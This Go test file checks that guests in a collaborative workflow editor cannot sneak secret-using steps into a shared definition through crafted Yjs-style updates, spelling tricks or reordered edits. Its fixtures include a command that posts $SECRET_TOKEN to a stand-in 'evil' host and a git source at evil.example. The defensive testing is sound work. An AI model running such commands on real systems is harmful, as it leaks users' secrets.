package collab_test

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/millrace/millrace/internal/collab"
	"github.com/millrace/millrace/internal/domain/fault"
	"github.com/millrace/millrace/internal/domain/ids"
	"github.com/millrace/millrace/internal/domain/ydoc"
	"github.com/millrace/millrace/internal/domain/ydoc/lib0"
	"github.com/millrace/millrace/internal/sharing"
	"github.com/millrace/millrace/internal/store"
)

// The kinds of content that a hand-made update has, and what stands before them.
const (
	rawDeleted, rawJSON, rawEmbed, rawAny = 1, 2, 5, 8

	afterOther, withKey = 0x80, 0x20
)

const strangeClient = 7_777_777

// rawUpdate is one block as no client of ours would write it.
func rawUpdate(clock uint64, info byte, rest func(w *lib0.Writer)) []byte {
	var w lib0.Writer
	for _, n := range []uint64{1, 1, strangeClient, clock} {
		w.Uint(n)
	}
	w.Byte(info)
	rest(&w)
	w.Uint(0) // nothing is deleted
	return w.Bytes()
}

// under is where a block stands: in a root, by a key.
func under(w *lib0.Writer, root, key string) {
	w.Uint(1)
	w.String(root)
	w.String(key)
}

// A guest who may not use secrets does not get around that by writing otherwise
// than clients do, or by making the definition unreadable first.
func TestAGuestCannotHideWhatUsesSecrets(t *testing.T) {
	const evil = `{"command":"curl -d $SECRET_TOKEN evil","s\u0065crets":["TOKEN"]}`
	deleted := rawUpdate(0, rawDeleted|withKey, func(w *lib0.Writer) { under(w, "extra", "source"); w.Uint(1) })
	after := rawUpdate(1, rawAny|afterOther, func(w *lib0.Writer) {
		w.Uint(strangeClient)
		w.Uint(0)
		w.Uint(1)
		if err := w.Any(map[string]any{"git": "https://evil.example/x"}); err != nil {
			t.Error(err)
		}
	})
	asJSON := func(kind byte) []byte {
		return rawUpdate(0, kind|withKey, func(w *lib0.Writer) {
			under(w, "nodes", "evil")
			if kind == rawJSON {
				w.Uint(1)
			}
			w.String(evil)
		})
	}
	for name, tt := range map[string]struct {
		allowed, refused []byte
	}{
		"a step as JSON with another spelling":    {nil, asJSON(rawJSON)},
		"an embedded step":                        {nil, asJSON(rawEmbed)},
		"a name taken over from what was deleted": {deleted, after},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t)
			g := h.dial(h.token(asGuest))
			g.isSynced()
			if tt.allowed != nil {
				g.sent++
				g.send(frame(0, 2, tt.allowed))
				g.saved()
			}
			g.send(frame(0, 2, tt.refused))
			h.mustBeRefused(g)
		})
	}
	for _, root := range []string{"nodes", "edges"} {
		t.Run("behind what is no "+root, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t)
			g := h.dial(h.token(asGuest))
			g.isSynced()
			g.set(root, "junk", "a text")
			g.saved()
			g.edit(func(tx *ydoc.Tx) {
				m, _ := tx.Map("nodes").Map("align")
				tx.Set(m, "secrets", []any{"TOKEN"})
				text, _ := m.Text("command")
				tx.Replace(text, "curl -d $SECRET_TOKEN evil")
			})
			h.mustBeRefused(g)
		})
	}
}

// What a guest puts in the place of something that waits would come in with the
// update of whoever sends the rest.
func TestAGuestCannotReplaceWhatWaits(t *testing.T) {
	t.Parallel()
	value := func(clock uint64, key string, values ...any) []byte {
		return rawUpdate(clock, rawAny|withKey, func(w *lib0.Writer) {
			under(w, "nodes", key)
			w.Uint(uint64(len(values)))
			for _, v := range values {
				if err := w.Any(v); err != nil {
					t.Error(err)
				}
			}
		})
	}
	h := newHarness(t)
	member, guest := h.dial(h.token()), h.dial(h.token(asGuest))
	member.isSynced()
	guest.isSynced()
	send := func(update []byte) {
		member.sent++
		member.send(frame(0, 2, update))
		member.saved()
	}
	send(value(2, "late", map[string]any{"command": "true"}))
	guest.send(frame(0, 2, value(1, "evil", nil, map[string]any{"command": "curl -d $SECRET_TOKEN evil", "secrets": []any{"TOKEN"}})))
	guest.closesWith(4409)
	send(value(0, "early", map[string]any{"command": "true"}))
	send(value(1, "next", map[string]any{"command": "true"}))
	h.mustBeRefused(guest)
	if got := string(h.read().Definition); !strings.Contains(got, `"late"`) {
		t.Errorf("the definition is %s", got)
	}
}

// Something that is empty, and named for what is guarded, is filled in later
// without its name being said again.
func TestAGuestCannotFillWhatTheyMadeEmpty(t *testing.T) {
	t.Parallel()
	step := func(tx *ydoc.Tx) ydoc.Map { m, _ := tx.Map("nodes").Map("align"); return m }
	for name, tt := range map[string]struct{ make, fill func(tx *ydoc.Tx) }{
		"an environment": {
			func(tx *ydoc.Tx) { tx.SetMap(step(tx), "environment") },
			func(tx *ydoc.Tx) { m, _ := step(tx).Map("environment"); tx.Set(m, "pip", []any{"evil"}) },
		},
		"the code": {
			func(tx *ydoc.Tx) { tx.SetMap(tx.Map("extra"), "source") },
			func(tx *ydoc.Tx) { m, _ := tx.Map("extra").Map("source"); tx.Set(m, "git", "https://evil.example/x") },
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t)
			g := h.dial(h.token(asGuest))
			g.isSynced()
			g.edit(tt.make)
			g.edit(tt.fill)
			h.mustBeRefused(g)
		})
	}
}

// Where nothing is guarded, a guest still adds no fields that mean nothing. Those that
// a member has added stay in nobody's way.
func TestAGuestCannotAddUnknownFields(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	member := h.dial(h.token())
	member.isSynced()
	member.set("extra", "strange", true)
	member.saved()
	g := h.dial(h.token(asGuest))
	g.isSynced()
	g.edit(func(tx *ydoc.Tx) {
		m, _ := tx.Map("nodes").Map("align")
		tx.Set(m, "when", "true")
		tx.Set(m, "position", []any{1.0, 2.0})
		text, _ := m.Text("command")
		tx.Replace(text, "true")
		tx.Set(tx.Map("parameters"), "any", map[string]any{"type": "string"})
	})
	g.saved()
	g.set("extra", "nodeſ", "evil")
	h.mustBeRefused(g)
}

func asGuest(p *sharing.Pass) { p.Guest, p.Name = "guest_g", "Grace" }

func (h *harness) mustBeRefused(g *client) {
	h.t.Helper()
	g.closesWith(4409)
	if got := string(h.read().Definition); strings.Contains(got, "evil") || strings.Contains(got, "TOKEN") {
		h.t.Errorf("the definition is %s", got)
	}
}

// refusing has no room for edits.
type refusing struct {
	*store.DB
	err error
}

func (r refusing) AppendUpdate(context.Context, ids.Workflow, int64, sharing.Update, time.Time) (int64, error) {
	return 0, r.err
}

// An edit that there is no room for is not stored, and whoever made it hears why.
func TestEditsNeedRoom(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		change func(*collab.Options)
		code   websocket.StatusCode
	}{
		"the team's storage is full": {func(o *collab.Options) {
			o.Documents = refusing{o.Documents.(*store.DB), fault.Payment("full").WithCode("storage_limit")}
		}, 4402},
		"the disk is nearly full": {func(o *collab.Options) {
			o.Full = func(context.Context) error { return fault.Unavailable("full").WithCode("disk_low") }
		}, websocket.StatusTryAgainLater},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			h := newHarness(t, tt.change)
			before := string(h.read().Definition)
			c := h.dial(h.token())
			c.isSynced()
			c.set("extra", "x-more", "text")
			c.closesWith(tt.code)
			if got := string(h.read().Definition); got != before {
				t.Errorf("the definition is %s", got)
			}
		})
	}
}
